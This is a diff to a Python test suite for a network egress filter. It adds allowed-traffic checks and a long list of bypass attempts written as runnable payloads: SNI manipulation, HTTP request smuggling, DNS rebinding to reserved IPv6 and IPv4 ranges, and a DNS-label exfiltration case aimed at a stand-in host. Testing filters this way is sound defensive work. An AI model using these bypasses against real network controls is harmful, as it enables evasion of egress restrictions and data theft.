@@ -86,6 +86,8 @@ def reached(arrived, unspoken=()):
     ]
 
 
+QUERY = "QUERY = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7allowed\\4test\\0\\0\\1\\0\\1'\n"
+
 # --- what must work, so that the rest means something ---
 
 WORKS = {
@@ -101,6 +103,10 @@ WORKS = {
     "a private range that the operator opened": "http1('opened.test', 80, get('opened.test'))",
     "a name with a good address among bad ones": "http1('mixed.test', 80, get('mixed.test'))",
     "DNS over TCP": "0/0 if ask('allowed.test', 1, tcp=True) != (0, 1) else 0",
+    "an alias of a listed name": "http1('alias.sub.test', 80, get('alias.sub.test'))",
+    "DNS in mixed letters": "0/0 if ask('aLLoWeD.tESt', 1) != (0, 1) else 0",
+    "DNS with EDNS": "0/0 if ask('', 1, raw=QUERY[:11] + b'\\1' + QUERY[12:] + b'\\0\\0\\x29\\x10\\0\\0\\0\\0\\0\\0\\0') != (0, 1) else 0",
+    "a protocol whose first line is like a request": "exchange(socket.create_connection(('allowed.test', 7), 5), b'EHLO me\\r\\n')",
     "a split hello": "split_hello('allowed.test')",
     "a split request": "split_http()",
 }
@@ -110,7 +116,8 @@ WORKS = {
 def test_works(guest, name):
     said, arrived, answer = attack(
         guest,
-        """
+        QUERY
+        + """
 def assert_banner():
     s = socket.create_connection(('allowed.test', 2222), 5)
     assert s.recv(100) == b'220 hello\\r\\n'
@@ -157,6 +164,12 @@ BYPASSES = {
     "another server name on another port": "tls('allowed.test', 8443, 'other.test')",
     "encrypted client hello": "craft(ech=True)",
     "two server names": "craft(names=['allowed.test', 'other.test'])",
+    "two server names in one list": "craft(names=['allowed.test', 'other.test'], one_list=True)",
+    "a server name with a dot at its end": "craft(names=['allowed.test.'])",
+    "a server name with a NUL": "craft(names=['allowed.test\\0'])",
+    "a server name with a port": "craft(names=['allowed.test:443'])",
+    "a server name in other letters": "craft(names=['\u0430llowed.test'])",
+    "an empty list of server names": "craft(names=[], one_list=True)",
     "an oversized hello": "craft(pad=40000)",
     "a hello in tiny records with another name": "craft(names=['other.test'], record=3)",
     "a hello in single bytes with another name": "craft(names=['other.test'], piece=1)",
@@ -173,6 +186,16 @@ BYPASSES = {
     "an absolute target for another host": "http1('allowed.test', 80, 'GET http://other.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n')",
     "CONNECT to another host": "http1('allowed.test', 80, 'CONNECT other.test:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')",
     "both lengths": "http1('allowed.test', 80, 'POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n')",
+    "two lengths": "http1('allowed.test', 80, 'POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: 5\\r\\nContent-Length: 0\\r\\n\\r\\nhello')",
+    "a length that two read differently": "http1('allowed.test', 80, 'POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nContent-Length: +5\\r\\n\\r\\nhello')",
+    "an unknown transfer coding": "http1('allowed.test', 80, 'POST / HTTP/1.1\\r\\nHost: allowed.test\\r\\nTransfer-Encoding: xchunked\\r\\n\\r\\n0\\r\\n\\r\\n')",
+    "a space before a header's colon": "http1('allowed.test', 80, 'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nHost : other.test\\r\\n\\r\\n')",
+    "an absolute target with a user": "http1('allowed.test', 80, 'GET http://allowed.test@other.test/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n')",
+    "an empty line before another Host on another port": "http1('allowed.test', 8080, '\\r\\n' + get('other.test:8080'))",
+    "small letters and another Host on another port": "http1('allowed.test', 8080, get('other.test:8080').replace('GET', 'get'))",
+    "split small letters and another Host": "split('allowed.test', 8080, get('other.test:8080').replace('GET', 'get'))",
+    "tabs and another Host on another port": "http1('allowed.test', 8080, get('other.test:8080').replace(' ', '\\t', 2))",
+    "HTTP/2 without TLS on another port": "http1('allowed.test', 8080, 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')",
     "another Host on another port": "http1('allowed.test', 8080, get('other.test:8080'))",
     "a split method and another Host": "split('allowed.test', 8080, get('other.test:8080'))",
     "HTTP/2 without TLS": "http1('allowed.test', 80, 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n')",
@@ -210,6 +233,12 @@ BYPASSES = {
     "rebinding through a translation of IPv4": "http1('rebind64.test', 80, get('rebind64.test'))",
     "rebinding by 6to4": "http1('rebind6to4.test', 80, get('rebind6to4.test'))",
     "rebinding to multicast": "http1('rebindmulticast.test', 80, get('rebindmulticast.test'))",
+    "rebinding by an alias": "http1('rebindcname.sub.test', 80, get('rebindcname.sub.test'))",
+    **{f"rebinding: {what}": f"http1('rebind{name}.sub.test', 80, get('rebind{name}.sub.test'))" for name, what in (
+        ("isatap", "ISATAP"), ("teredo", "Teredo"), ("local64", "NAT64 of local use"), ("translated", "IPv4-translated"),
+        ("compatible", "IPv4-compatible"), ("site", "site-local"), ("unique", "unique local"), ("protocol", "192.0.0.0/24"),
+        ("names", "the range for names"), ("reserved", "240.0.0.0/4"), ("broadcast", "broadcast"))},
+    "link-local with a scope": "http1('fe80::1%lo', 80, get('allowed.test'))",
     "rebinding to 0.0.0.0": "http1('rebindzero.test', 80, get('rebindzero.test'))",
     # UDP and the like
     "QUIC to a listed name": "udp('allowed.test', 443)",
@@ -232,13 +261,16 @@ BYPASSES = {
     "ANY": "0/0 if ask('allowed.test', 255)[1] == 0 else 0",
     "a zone transfer": "0/0 if ask('test', 252)[1] == 0 else 0",
     "PTR": "0/0 if ask('10.0.0.11.in-addr.arpa', 12)[1] == 0 else 0",
+    "a pointer for a name": "0/0 if ask('', 1, raw=QUERY[:12] + b'\\xc0\\x0c\\0\\1\\0\\1')[1] == 0 else 0",
+    "a huge message by TCP": "ask('', 1, raw=QUERY + bytes(60000), tcp=True)",
     "data in labels": "resolve('-'.join(['a' * 20] * 3) + '.exfiltrate.unlisted.test')",
     "DNS over TLS": f"tls('{network.RESOLVER}', 853, 'allowed.test')",
     "DNS over HTTPS by address": f"tls('{U}', 443, 'unlisted.test')",
 }
 
-TOOLS = """
-QUERY = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\7allowed\\4test\\0\\0\\1\\0\\1'
+TOOLS = (
+    QUERY
+    + """
 def udp(host, port):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
     s.connect((socket.gethostbyname(host), port)); s.send(b'hello'); s.recv(100)
@@ -249,9 +281,12 @@ def split(host, port, text):
     s = socket.create_connection((host, port), 5); s.setsockopt(6, 1, 1)
     for c in text: s.send(c.encode()); time.sleep(0.002)
     if b'200' not in s.recv(100): raise OSError(104, 'no')
-def craft(names=('allowed.test',), ech=False, pad=0, record=16000, piece=0, cut=0):
+def craft(names=('allowed.test',), ech=False, pad=0, record=16000, piece=0, cut=0, one_list=False):
     ext = b''
-    for n in names: ext += struct.pack('>HHHBH', 0, len(n) + 5, len(n) + 3, 0, len(n)) + n.encode()
+    if one_list:
+        both = b''.join(struct.pack('>BH', 0, len(n)) + n.encode() for n in names); names = ()
+        ext += struct.pack('>HHH', 0, len(both) + 2, len(both)) + both
+    for n in map(str.encode, names): ext += struct.pack('>HHHBH', 0, len(n) + 5, len(n) + 3, 0, len(n)) + n
     if ech: ext += struct.pack('>HH', 0xfe0d, 4) + b'abcd'
     if pad: ext += struct.pack('>HH', 21, pad) + bytes(pad)
     ext += bytes.fromhex('002b0003020304') + bytes.fromhex('000d0004000204030033') + struct.pack('>HHHH', 38, 36, 29, 32) + os.urandom(32) + bytes.fromhex('000a00040002001d')
@@ -265,6 +300,7 @@ def craft(names=('allowed.test',), ech=False, pad=0, record=16000, piece=0, cut=
     if cut: s.shutdown(socket.SHUT_WR)
     exchange(s, b'')
 """
+)
 
 
 # What each protection alone holds: left out (-Dweaken=), this attack succeeds.
